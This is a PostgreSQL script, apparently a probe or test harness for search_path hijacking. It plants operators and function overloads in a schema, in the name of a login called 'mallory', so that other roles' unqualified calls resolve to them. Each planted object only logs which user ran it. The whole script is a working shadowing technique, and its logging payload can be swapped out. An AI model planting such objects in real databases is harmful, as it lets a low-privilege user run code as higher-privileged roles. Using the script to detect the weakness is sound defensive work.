-- What a login that may create objects in a schema would have others run: operators and functions whose arguments fit
-- what an unwary body says better than those of the server do. Each notes who ran it.
create table :schema.gained (who text, what text);
grant insert on :schema.gained to public;

create function :schema.ran(what text) returns void language plpgsql as $$
begin
    if current_user <> 'mallory' then
        insert into :schema.gained values (current_user, what);
    end if;
end
$$;

do $$
declare
    types constant text[] := array[
        'integer', 'bigint', 'numeric', 'real', 'double precision', 'text', 'varchar', 'boolean', 'timestamptz',
        'interval', 'jsonb', 'uuid'
    ];
    one text;
    other text;
    name text;
begin
    foreach one in array types loop
        foreach other in array types loop
            execute format(
                'create function :schema.calculation(%s, %s) returns double precision language plpgsql as %L',
                one, other, format('begin perform :schema.ran(%L); return 0; end', one || ' ' || other)
            );
            execute format(
                'create function :schema.comparison(%s, %s) returns boolean language plpgsql as %L',
                one, other, format('begin perform :schema.ran(%L); return true; end', one || ' ' || other)
            );
            foreach name in array array['+', '-', '*', '/', '||', '=', '<>', '<', '>', '<=', '>=', '~'] loop
                execute format(
                    'create operator :schema.%s (function = :schema.%s, leftarg = %s, rightarg = %s)', name,
                    case when name in ('+', '-', '*', '/', '||') then 'calculation' else 'comparison' end, one, other
                );
            end loop;
        end loop;
    end loop;
end
$$;

do $$
declare
    arguments text;
    name text;
begin
    foreach name in array array[
        'unnest', 'array_agg', 'array_to_string', 'array_length', 'cardinality', 'format', 'concat', 'left', 'rpad', 'md5',
        'repeat', 'translate', 'regexp_replace', 'split_part', 'sum', 'max', 'min', 'count', 'now', 'jsonb_each_text',
        'jsonb_build_object', 'power', 'pg_sleep', 'clock_timestamp', 'least', 'round', 'string_agg'
    ] loop
        foreach arguments in array array[
            'bigint[]', 'text[]', 'uuid[]', 'integer', 'bigint', 'numeric', 'uuid', 'varchar', 'integer, integer',
            'text[], text', 'text[], text, text', 'text, interval', 'text, uuid', 'text, text', 'varchar, integer',
            'text, integer, varchar', 'varchar, varchar, varchar', 'text, varchar, varchar', 'text, varchar, integer',
            'text, text, text, varchar', 'numeric, double precision'
        ] loop
            execute format(
                'create function :schema.%I(%s) returns text language plpgsql as %L', name, arguments,
                format('begin perform :schema.ran(%L); return null; end', name)
            );
        end loop;
    end loop;
end
$$;

grant usage on schema :schema to public;
